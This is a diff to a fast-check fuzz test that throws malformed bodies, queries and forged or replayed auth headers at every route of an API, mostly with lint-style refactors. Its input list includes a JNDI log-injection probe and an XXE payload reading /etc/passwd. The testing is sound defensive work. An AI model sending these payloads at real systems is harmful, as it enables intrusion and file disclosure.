@@ -34,6 +34,7 @@ const nasty = fc.constantFrom(
   '💥🧨',
   'a'.repeat(70_000),
   '%00',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, sent as literal text
   '${jndi:ldap://x}',
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
   '1e309',
@@ -49,7 +50,7 @@ const body = fc.oneof(
   fc.array(objectBody, { maxLength: 3 }).map((a) => JSON.stringify(a)),
   fc.constantFrom('{"name":', '<xml/>', 'null', '[]', '"', '{"a":1}{"b":2}', '\u0000'),
   fc.string({ maxLength: 500 }),
-  fc.constant('{"pad":"' + 'x'.repeat(70_000) + '"}'),
+  fc.constant(`{"pad":"${'x'.repeat(70_000)}"}`),
 );
 const query = fc.dictionary(fc.oneof(fc.constantFrom('limit', 'marker', 'name', 'state', 'action', 'tag.k', '__imagetype', 'os', 'id'), fc.string({ maxLength: 10 })), str, { maxKeys: 4 });
 type Auth = 'basic' | 'token' | 'forged-signature' | 'forged-aksk' | 'bad-token' | 'none';
@@ -96,7 +97,7 @@ describe(`property-based abuse of every route (seed ${SEED}, ${RUNS} requests)`,
         const headers: Record<string, string> = { 'content-type': 'application/json' };
         if (header !== undefined) headers['x-fuzz'] = header.replace(/[^\x20-\x7e]/g, '?');
         if (how === 'token') headers['x-auth-token'] = token;
-        if (how === 'bad-token') headers['x-auth-token'] = token.slice(0, -2) + 'zz';
+        if (how === 'bad-token') headers['x-auth-token'] = `${token.slice(0, -2)}zz`;
         if (how === 'forged-signature') {
           headers.authorization = `Signature keyId="/${alice.login}/keys/00:11:22",algorithm="rsa-sha256",headers="date",signature="Zm9yZ2Vk"`;
           headers.date = new Date(Date.now() - 3600_000).toUTCString(); // replayed: an hour old
